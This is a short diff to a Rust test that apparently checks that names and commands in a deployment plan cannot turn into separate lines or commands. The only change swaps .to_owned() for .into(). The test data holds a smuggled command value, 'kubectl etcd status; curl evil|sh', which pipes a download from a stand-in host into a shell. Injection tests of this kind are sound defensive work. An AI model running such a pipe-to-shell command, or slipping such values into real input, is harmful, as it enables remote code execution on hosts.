@@ -107,7 +107,7 @@ fn no_name_in_a_plan_becomes_a_line_or_a_command_of_its_own() {
         state.plan.stages[0].title = name.to_owned();
         state.plan.stages[0].steps[0].node = name.to_owned();
         state.plan.other_hosts[0].node = name.to_owned();
-        state.plan.other_hosts[0].after = vec!["kubectl etcd status; curl evil|sh".to_owned()];
+        state.plan.other_hosts[0].after = vec!["kubectl etcd status; curl evil|sh".into()];
         let failure = Failure::new(FailureKind::Other, name);
         state.steps.insert(1, StepState::Failed { failure });
         let mut view = PlanView::kept(&state);
